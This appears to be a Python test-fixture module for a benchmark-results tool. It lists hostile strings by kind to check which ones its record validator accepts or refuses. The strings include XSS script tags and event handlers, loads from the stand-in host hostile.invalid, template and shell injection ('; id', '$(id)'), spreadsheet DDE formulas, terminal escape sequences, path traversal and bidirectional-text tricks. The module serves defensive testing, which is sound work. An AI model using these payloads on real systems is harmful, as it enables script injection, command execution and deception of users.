"""Texts that a stranger might put into a result file, to have them run, fetched, obeyed or taken for something else.

`STRINGS` holds them by kind; `accepted` are those that a record may hold all the same, and that every page, table and
terminal must show as text; `refused` are the others. What they would do if they ran can be told: SIGN stands in the page's
title or its globals, and only addresses of HOST and files of the machine are named.
"""

import unicodedata

from dlmark.record import RecordError, check

SIGN = "dlmarkWasHere"
HOST = "hostile.invalid"
RUN = f"window.{SIGN}=1"
SEPARATORS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]  # where str.splitlines ends a line

_RAW = "{s}{s}.. raw:: html{s}{s}   <script>" + RUN + "</script>{s}{s}"
_DIRECTIVES = [
    _RAW,
    "{s}{s}.. raw:: html{s}   :file: /etc/hostname{s}{s}",
    "{s}{s}.. raw:: html{s}   :url: http://" + HOST + "/raw{s}{s}",
    "{s}{s}.. include:: /etc/hostname{s}   :literal:{s}{s}",
    "{s}{s}.. literalinclude:: /etc/hostname{s}{s}",
    "{s}{s}.. image:: http://" + HOST + "/pixel.png{s}{s}",
    "{s}{s}.. csv-table::{s}   :file: /etc/hostname{s}{s}",
]

STRINGS: dict[str, list[str]] = {
    "tags": [
        f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src=http://{HOST}/x.js></script>",
        f"<script src=//{HOST}/x.js></script>", f"<script type=module>import 'http://{HOST}/m.js'</script>", f"<<script>{RUN}//<</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"--><script>{RUN}</script><!--", f"]]><script>{RUN}</script>", f"</td></tr></table><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</pre></details><script>{RUN}</script>",
        "<b>bold</b>", "<!-- a comment", "<plaintext>", "<xmp>", "<base href=http://" + HOST + "/>", "<meta http-equiv=refresh content='0;url=http://" + HOST + "/'>",
        f"<iframe srcdoc='<script>parent.{SIGN}=1</script>'></iframe>", f"<iframe src=http://{HOST}/frame></iframe>", f"<object data=http://{HOST}/o></object>",
        f"<embed src=http://{HOST}/e>", f"<link rel=stylesheet href=http://{HOST}/s.css>", f"<style>@import 'http://{HOST}/i.css';</style>",
        "<style>body{display:none}</style>", f"<template><script>{RUN}</script></template>", f"<form action=http://{HOST}/f><input type=submit></form>",
        f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"＜script＞{RUN}＜/script＞", f"%3Cscript%3E{RUN}%3C/script%3E",
    ],
    "attributes": [
        f'" autofocus onfocus="{RUN}', f"' autofocus onfocus='{RUN}", f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", '" style="position:fixed;inset:0" x="',
        f'" style="background:url(http://{HOST}/bg)" x="', f"` onmouseover=`{RUN}", f"x onmouseover={RUN}", '" id="main" class="modal', f'" data-x=\'" onclick="{RUN}',
        '"', "'", "\\\"", "\\'", "&quot;", "&#34; onclick=&#34;",
    ],
    "handlers": [
        f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x</details>",
        f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>", f"<a onmouseover={RUN}>x</a>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><script>{RUN}</script></svg>", f"<div style='animation:x' onanimationstart={RUN}>", f"<img/src=x/onerror={RUN}>",
        f"<select autofocus onfocus={RUN}>", f"<object onerror={RUN}>", "<img src=x onerror=eval(atob('ZGxtYXJr'))>",
    ],
    "addresses": [
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"javascript&colon;{RUN}", f"java&#x73;cript:{RUN}", f"<a href='javascript:{RUN}'>x</a>", f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZGxtYXJrV2FzSGVyZT0xPC9zY3JpcHQ+", f"http://{HOST}/a", f"https://{HOST}/a", f"//{HOST}/a", f"<img src=http://{HOST}/pixel.png>",
        f"<a href=http://{HOST}/ ping=http://{HOST}/ping>x</a>", f"mailto:a@{HOST}", f"a@{HOST}", "file:///etc/hostname", "vbscript:msgbox(1)", f"<http://{HOST}/auto>", f"www.{HOST}",
        f"ftp://{HOST}/a", f"blob:http://{HOST}/a", "../../../../etc/passwd", "..\\..\\x", "/etc/hostname", "a/b/c",
    ],
    "templates": [
        "{{7*7}}", "{{ config }}", "{{''.__class__.__mro__}}", "{% include '/etc/hostname' %}", "{% raw %}", "{# comment #}", "{%- for x in range(9999) -%}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "{0}", "{0.__class__}", "{model}", "{model!r:>9999}", "%s%s%s%n", "%(model)s", "$model", "$(id)", "`id`", "; id", "| id", "&& id", "[[7*7]]", "*{7*7}",
        f"{{{{constructor.constructor('{RUN}')()}}}}", "|model|", "@@model@@",
    ],
    "bokeh": [
        "@{throughput}", "@{model}", "@model", "@$name", "$x", "$index", "$name", "$swatch:throughput", "$color[hex, swatch]:model", "@{model}{safe}",
        f"@{{model}}{{safe}}<script>{RUN}</script>", "@throughput{0.0 a}", "@throughput{%F}{custom}", "@@", "$$", "@{", "@{}{}", "@{file}{safe}", "$~{x}", "${", "@{no such}{safe}",
    ],
    "mathematics": [
        "$$\\int_0^1 x\\,dx$$", "\\(x^2\\)", "\\[x^2\\]", "$x^2$", "$$x$$ResNet", "\\begin{equation}x\\end{equation}", "\\begin{x}", f"$$\\href{{javascript:{RUN}}}{{x}}$$",
        "$$\\class{x}{\\style{position:fixed}{y}}$$", "$$\\require{html}$$", "$$\\def\\a{\\a\\a}\\a$$", "\\input{/etc/hostname}", "\\write18{id}", f"$$\\includegraphics{{http://{HOST}/g}}$$",
        f"<math><mtext><script>{RUN}</script></mtext></math>", f"<math><maction actiontype='statusline' xlink:href='javascript:{RUN}'>x</maction></math>",
        f"<math href='javascript:{RUN}'>x</math>", f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    ],
    "reStructuredText": [
        "`x <javascript:" + RUN + ">`_", f"`x <http://{HOST}/>`_", ":raw-html:`<script>" + RUN + "</script>`", ":download:`/etc/hostname`", ":doc:`/index`", ":ref:`search`", ":math:`x^2`",
        "**bold**", "*emphasis*", "``literal``", "|substitution|", "text_", "`text`_", "anonymous__", "[1]_", "[#]_", "\\*", "A\\ B", ".. raw:: html", ".. include:: /etc/hostname", "::",
        ".. |x| image:: http://" + HOST + "/pixel.png", ".. _x: http://" + HOST + "/", "====", "- item", "1. item", "+---+", ">>> 1 + 1", ":field: x", "-- x", "| line",
    ],
    "directives": ["A" + text.format(s=s) + "B" for text in _DIRECTIVES for s in SEPARATORS],
    "line ends": [f"Res{s}Net" for s in SEPARATORS] + [f"ResNet{s}" for s in SEPARATORS],
    "Markdown": [
        f"[x](http://{HOST}/)", f"[x](javascript:{RUN})", f"![x](http://{HOST}/pixel.png)", f"![x](x){{onerror={RUN}}}", f"[x]: http://{HOST}/", "# heading", "**bold**", "_emphasis_",
        "~~gone~~", "`code`", "> quote", "- [x] done", "| a | b |", "|---|---|", "--- | ---", "```{include} /etc/hostname", "{raw}`<script>`", "[^1]", f"<http://{HOST}/>", f"<p>{HOST}</p>", "&copy;&nbsp;",
        f"[![x](http://{HOST}/p.png)](javascript:{RUN})",
    ],
    "terminal": [
        "\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", f"\x1b]8;;http://{HOST}/\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;aWQ=\x07", "\x1bc", "\x1b[?1049h", "\x1bP+q544e\x1b\\", "\x1b_G\x1b\\",
        "\x1b[6n", "\x9b2J", "\x9d0;title\x9c", "\x90x\x9c", "\x08\x08\x08hidden", "\x7f", "\x07", "\x0e", "A\rB", "[31mred[/]", "[bold red]x[/bold red]", f"[link=http://{HOST}/]x[/link]",
        "[/]", "[@click=app.bell]x[/]", ":warning:", "^[[2J", "\\x1b[2J", "\\033[2J",
    ],
    "controls": [f"Res{chr(number)}Net" for number in range(0x20) if chr(number) not in SEPARATORS] + ["Res\x00", "\x00", "\x01ResNet", "Res\x80Net", "Res\x9fNet", "\t"],
    "formulas": [
        "=1+1", f'=HYPERLINK("http://{HOST}/","x")', f'=WEBSERVICE("http://{HOST}/")', f'=IMPORTXML("http://{HOST}/","//a")', "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
        "-2+3+cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=1+1,=2+2", '",=1+1,"', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)",
        f'＝HYPERLINK("http://{HOST}/","x")', "﹦1+1", "⁺1+1", "﹢1+1", "﹣1+1", "−1+1", "﹫SUM(1+1)", "|id", ";=1+1",
    ],
    "bidirectional": [
        "Res\u202eteN", "Res\u202dNet", "\u202aRes\u202c", "\u202bRes\u202c", "\u2066Res\u2069", "\u2067Res\u2069", "\u2068Res\u2069", "Res\u200eNet", "Res\u200fNet", "Res\u061cNet",
        "\u202e>tpircs/<1=ereHsaWkramld>tpircs<\u202c", "AMD\u2067\u2066EPYC\u2069\u2069",
    ],
    "invisible": [
        "Res\u200bNet", "Res\u200cNet", "Res\u200dNet", "Res\u2060Net", "Res\ufeffNet", "\ufeffResNet", "Res\u00adNet", "Res\u180eNet", "Res\u2061Net", "Res\u2064Net", "Res\ufff9Net", "Res\u206aNet",
        "ResNet\U000e0041\U000e007f", "\u3164", "Res\u3164Net", "\u115f", "\u1160", "\uffa0", "\u2800", "Res\u2800Net", "Res\u034fNet", "ResNet\ufe0f", "ResNet\ufe00", "ResNet\U000e0100", "ResNet\u17b4", "Res\u180bNet",
        "Res\U0001d173Net", "Res\U0001bca0Net",
    ],
    "spaces": [
        "", " ", "   ", "\u00a0", "Res\u00a0Net", "Res\u2003Net", "Res\u2009Net", "Res\u202fNet", "Res\u205fNet", "Res\u3000Net", "Res\u1680Net", "\u2000", " ResNet", "ResNet ", "\u3000ResNet",
    ],
    "no character": [
        "Res\ud800Net", "Res\udfffNet", "\udc80", "Res\ud83dNet", "\udce9.json", "Res\ue000Net", "Res\uf8ffNet", "Res\U000f0000Net", "Res\U0010fffdNet", "Res\uffffNet", "Res\ufffeNet", "Res\ufdd0Net",
        "Res\u0378Net", "Res\U0010ffffNet", "Res\U000e0fffNet",
    ],
    "stacked marks": [
        "R" + "\u0300" * 40 + "esNet", "".join(c + "\u0310\u0325\u0334\u0489\u0361\u0353" * 3 for c in "ResNet"), "\u0301ResNet", "\u20ddResNet", "R\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd", "\u0e47" * 30,
    ],
    "scripts and symbols": [  # honest ones, which must pass and be shown as they are
        "Résumé-Net", "Re\u0301sNet", "Сеть-18", "ネットワーク-50", "网络-101", "네트워크", "شبكة-18", "רשת-18", "नेटवर्क-18", "เครือข่าย", "Δίκτυο", "Ağ-50", "Mạng nơ-ron", "🤖", "∑x²", "A & B", "1 < 2 > 0",
        "100% ± 1", "Intel® Xeon® CPU @ 2.00GHz", "NVIDIA A100-SXM4-80GB", "_private_", "C:\\Users", "#1", "~", "a=b", "null", "None", "nan", "True", "undefined", "0", "-1", "1e400", "__proto__", "constructor",
        "toString", "hasOwnProperty", "NULL;DROP TABLE results", "' OR 1=1 --", "../results", "con", "aux.json", ".", "..", "*", "?", "[a-z]",
    ],
    "long": [
        "x" * 2_000, "W" * 2_000, "网" * 2_000, "_" * 2_000, "&" * 2_000, "<" * 2_000, "-" * 2_000, "🤖" * 2_000, "a/" * 1_000, "x" * 2_001, "x " * 1_000 + "x", "مـ" * 1_000,
    ],
}  # fmt: skip


def accepted(field: str = "model") -> dict[str, list[str]]:
    """Those that a record may hold in its text `field`, by kind."""
    return {kind: [text for text in texts if accepts(text, field)] for kind, texts in STRINGS.items()}


def refused(field: str = "model") -> dict[str, list[str]]:
    """Those that no record may hold in its text `field`, by kind."""
    return {kind: [text for text in texts if not accepts(text, field)] for kind, texts in STRINGS.items()}


def accepts(text: str, field: str = "model") -> bool:
    """Whether a record with this text is accepted."""
    try:
        check({"model": "A", field: text})
    except RecordError:
        return False
    return True


def described(text: str) -> str:
    """A name for a test's parameter: in ASCII, short, and telling."""
    shown = "".join(c if c.isascii() and c.isprintable() else f"<{unicodedata.name(c, f'U+{ord(c):04X}')}>" for c in text[:40])
    return shown[:60]
